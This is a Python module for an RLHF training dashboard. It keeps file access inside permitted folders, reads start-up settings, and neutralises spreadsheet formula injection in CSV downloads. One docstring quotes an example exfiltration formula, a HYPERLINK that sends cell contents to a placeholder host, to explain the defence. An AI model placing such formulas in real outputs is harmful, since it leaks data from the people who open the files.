"""What the dashboard may read and write, and the start-up settings that decide it. No Streamlit, no torch.

Anyone who can reach the dashboard's port can type paths into it, and a runs root can hold files written by
someone else. Lives here:
- `inside`: a path resolved (links followed) that must stay under a root; every file the loaders read and the
  one file the Compare page writes go through it, so a link leaving the runs root is never followed.
- start-up settings from the environment that `python main.py dashboard` sets from its flags: the labels folder
  the Compare page may write in, and whether code shipped in a stage directory may run.
- `safe_cells`: text cells that a spreadsheet would run as a formula, neutralised for CSV downloads.
Must not live here: what the files mean (`loaders.py`) and widgets (`ui.py`).
"""

from __future__ import annotations

import os
from pathlib import Path

import pandas as pd

from lit_rlhf.dashboard_cmd import JUDGE_ENV, LABELS_ENV, RUNS_ENV, TRUST_ENV

DEFAULT_RUNS_ROOT = "runs"
# A spreadsheet opening a CSV runs a cell starting with one of these as a formula (=HYPERLINK(...) can send
# data away); tab and carriage return are the OWASP-listed variants of the same trick.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class UnsafePath(ValueError):
    """A path the dashboard refuses to write: outside its folder, or not a plain file name."""


def _on(name: str) -> bool:
    return os.environ.get(name, "").strip().lower() not in ("", "0", "false", "no")


def startup_runs_root() -> Path:
    """The runs root the dashboard was started with (`LIT_RLHF_RUNS`, set by `main.py dashboard --runs`)."""
    return Path(os.environ.get(RUNS_ENV) or DEFAULT_RUNS_ROOT)


def labels_root() -> Path:
    """The folder the Compare page may write comparisons in: `--labels` at start-up, else the runs root."""
    return Path(os.environ.get(LABELS_ENV) or startup_runs_root())


def trust_remote_code() -> bool:
    """Whether code shipped in a stage directory may run when the Compare page loads it (`--trust-remote-code`)."""
    return _on(TRUST_ENV)


def judge_spec() -> str | None:
    """The judge that scores the Compare page's completions (`--judge` at start-up), or None."""
    return os.environ.get(JUDGE_ENV) or None


def inside(root: str | os.PathLike, path: str | os.PathLike) -> Path | None:
    """`path` resolved, when it stays under `root` resolved (or is it); None when it leaves it or cannot resolve.

    Resolving follows every link, so a link inside the root that points out of it gives None.
    """
    try:
        base, target = Path(root).resolve(), Path(path).resolve()
    except (OSError, RuntimeError):  # RuntimeError: a symlink loop (Python < 3.13)
        return None
    return target if target == base or target.is_relative_to(base) else None


def labels_path(text: str, root: str | os.PathLike) -> Path:
    """Where "Comparisons file" `text` (relative to `root`, or absolute) may be appended to; UnsafePath if not."""
    text = text.strip()
    if not text:
        raise UnsafePath("give a file name (relative to the labels folder)")
    candidate = Path(text) if Path(text).is_absolute() else Path(root) / text
    if candidate.suffix != ".jsonl":
        raise UnsafePath(f"{text}: a comparisons file name ends in .jsonl")
    resolved = inside(root, candidate)
    if resolved is None or resolved == Path(root).resolve():
        raise UnsafePath(
            f"{text}: outside the labels folder {root}; the dashboard writes only there "
            "(start it with --labels DIR to choose another folder)"
        )
    return resolved


def safe_cells(frame: pd.DataFrame) -> pd.DataFrame:
    """`frame` with every text cell that starts like a formula prefixed with an apostrophe.

    A table shown with st.dataframe can be downloaded as CSV from its toolbar; model text such as
    `=HYPERLINK("http://x/?"&A1, "ok")` would then run in the spreadsheet that opens it. Numbers are left alone.
    """
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(_safe_cell)
    return out


def _safe_cell(value: object) -> object:
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value
